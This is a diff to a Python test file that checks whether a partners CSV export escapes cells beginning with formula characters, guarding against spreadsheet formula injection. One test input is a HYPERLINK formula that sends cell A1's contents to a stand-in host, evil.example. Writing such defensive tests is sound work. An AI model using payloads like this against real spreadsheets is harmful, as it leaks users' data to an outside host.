@@ -115,13 +115,13 @@ def test_the_table_is_utf_8_with_a_mark_and_its_lines_end_as_rfc_4180_wants():
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
 def test_no_cell_is_a_formula(start):
-    factories.partner(title="A partner", places=f"{start}1+1" if start.strip() else "Riverton")
+    factories.partner(title="A partner", places=f"{start}SUM(A:A)" if start.strip() else "Riverton")
     evil = f'{start}HYPERLINK("https://evil.example/?"&A1;"x")'
     factories.partner(title=evil)
     (row,) = [row for row in rows() if "evil" in row["name"]]
     assert row["name"] == f"'{evil}"
     if start.strip():
-        assert f"'{start}1+1" in [row["places"] for row in rows()]
+        assert f"'{start}SUM(A:A)" in [row["places"] for row in rows()]
     for line in csv.reader(io.StringIO(table("partners", locale="en"), newline="")):
         assert not any(cell.startswith(start) for cell in line)
 
